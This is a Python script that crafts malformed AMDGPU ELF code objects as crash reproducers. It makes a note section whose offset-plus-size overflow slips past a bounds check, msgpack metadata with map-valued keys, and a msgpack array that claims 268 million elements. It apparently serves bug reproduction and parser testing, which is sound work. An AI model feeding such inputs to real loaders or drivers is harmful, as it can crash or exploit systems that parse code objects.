#!/usr/bin/env python3
"""Crafted AMDGPU code objects for crash-reproducers.sh (crash-04), from a real device ELF (hipcc --save-temps .out).
usage: craft_elf.py IN.out MODE OUT
  wrap-note   the SHT_NOTE section's offset + size wraps around 2^64
  map-keys    the NT_AMDGPU_METADATA msgpack is a map whose keys are maps (non-scalar)
  huge-array  the msgpack claims an array of 268,435,456 elements
"""
import struct, sys

src, mode, out = sys.argv[1:4]
b = bytearray(open(src, 'rb').read())
assert b[:4] == b'\x7fELF' and b[4] == 2, 'ELF64 expected'
shoff, = struct.unpack_from('<Q', b, 0x28)
shentsize, shnum = struct.unpack_from('<HH', b, 0x3A)
notes = []
for i in range(shnum):
    off = shoff + i * shentsize
    sh_type, = struct.unpack_from('<I', b, off + 4)
    if sh_type == 7:  # SHT_NOTE
        notes.append(off)
assert notes, 'no SHT_NOTE section'
sh = notes[0]
n_off, n_size = struct.unpack_from('<QQ', b, sh + 0x18)
if mode == 'wrap-note':
    # offset = -2^40: the note pointer lands far below the buffer (unmapped); offset + size = 16 passes a
    # bounds check that does not test for overflow
    struct.pack_into('<QQ', b, sh + 0x18, 2**64 - 2**40, 2**40 + 16)
else:
    # walk the notes: namesz, descsz, type, name (4-aligned), desc (4-aligned)
    p = n_off
    while p < n_off + n_size:
        namesz, descsz, ntype = struct.unpack_from('<III', b, p)
        name_at = p + 12
        desc_at = name_at + ((namesz + 3) & ~3)
        if ntype == 32 and bytes(b[name_at:name_at + 6]) == b'AMDGPU':  # NT_AMDGPU_METADATA
            break
        p = desc_at + ((descsz + 3) & ~3)
    else:
        sys.exit('no NT_AMDGPU_METADATA note')
    if mode == 'map-keys':   # {{}: 1, {}: "aaaa..."} filling the descriptor exactly: two map keys get compared
        pad = descsz - 7
        blob = b'\x82\x80\x01\x80\xda' + struct.pack('>H', pad) + b'a' * pad
    elif mode == 'huge-array':  # array32 of 268,435,456 nils, then zeros
        blob = b'\xdd' + struct.pack('>I', 0x10000000) + b'\xc0' * (descsz - 5)
    else:
        sys.exit('unknown mode ' + mode)
    assert len(blob) == descsz
    b[desc_at:desc_at + descsz] = blob
open(out, 'wb').write(b)
